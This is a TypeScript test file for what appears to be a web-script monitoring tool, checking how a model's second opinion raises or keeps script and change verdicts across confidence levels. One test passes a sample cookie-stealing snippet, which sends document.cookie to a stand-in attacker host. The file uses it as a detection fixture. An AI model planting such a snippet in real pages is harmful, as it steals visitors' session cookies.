// What a second opinion may do to a verdict: for every pair of verdicts and every confidence.

import { opinionConfidences, opinionVerdicts } from '@tillwatch/contract/lists'
import { changeVerdicts } from '@tillwatch/core/changes'
import { judgeScript, scriptVerdicts } from '@tillwatch/core/detection'
import { expect, it } from 'vitest'
import { withOpinion, withOpinionOnChange } from '#features/second-opinions/index.ts'

const table = {
  benign: { benign: 'benign', suspicious: 'suspicious', malicious: 'suspicious' },
  inconclusive: { benign: 'inconclusive', suspicious: 'suspicious', malicious: 'suspicious' },
  suspicious: { benign: 'suspicious', suspicious: 'suspicious', malicious: 'malicious' },
  malicious: { benign: 'malicious', suspicious: 'malicious', malicious: 'malicious' },
} as const
const pairs = scriptVerdicts.flatMap((own) => opinionVerdicts.map((other) => [own, other, table[own][other]] as const))

it.each(pairs)('%s with the opinion %s is %s, when the model is sure', (own, verdict, after) => {
  for (const confidence of ['medium', 'high'] as const)
    expect(withOpinion({ verdict: own }, { verdict, confidence })).toEqual({ verdict: after })
})

it.each(pairs)('%s with the opinion %s stays as it is, when the model is not sure', (own, verdict) => {
  expect(withOpinion({ verdict: own }, { verdict, confidence: 'low' })).toEqual({ verdict: own })
})

it('changes nothing without an opinion, and nothing but the verdict with one', () => {
  const judgement = judgeScript("var i=new Image();i.src='https://evil.example/?'+document.cookie")
  expect(withOpinion(judgement, null)).toBe(judgement)
  const raised = withOpinion({ ...judgement, verdict: 'suspicious' as const }, { verdict: 'malicious', confidence: 'high' })
  expect(raised).toEqual({ ...judgement, verdict: 'malicious' })
})

it('never lowers a verdict of a change, and raises it to what is told, or from there to malicious', () => {
  for (const own of changeVerdicts)
    for (const verdict of opinionVerdicts)
      for (const confidence of opinionConfidences) {
        const after = withOpinionOnChange({ verdict: own }, { verdict, confidence }).verdict
        expect(changeVerdicts.indexOf(after)).toBeGreaterThanOrEqual(changeVerdicts.indexOf(own))
        if (verdict === 'benign' || confidence === 'low') expect(after).toBe(own)
      }
  const surely = (own: (typeof changeVerdicts)[number], verdict: 'suspicious' | 'malicious') =>
    withOpinionOnChange({ verdict: own }, { verdict, confidence: 'high' }).verdict
  expect(changeVerdicts.map((own) => surely(own, 'suspicious'))).toEqual([
    'capability',
    'capability',
    'capability',
    'capability',
    'capability',
    'capability',
    'targeted',
    'malicious',
  ])
  expect(changeVerdicts.map((own) => surely(own, 'malicious'))).toEqual([
    'capability',
    'capability',
    'capability',
    'capability',
    'capability',
    'malicious',
    'malicious',
    'malicious',
  ])
})
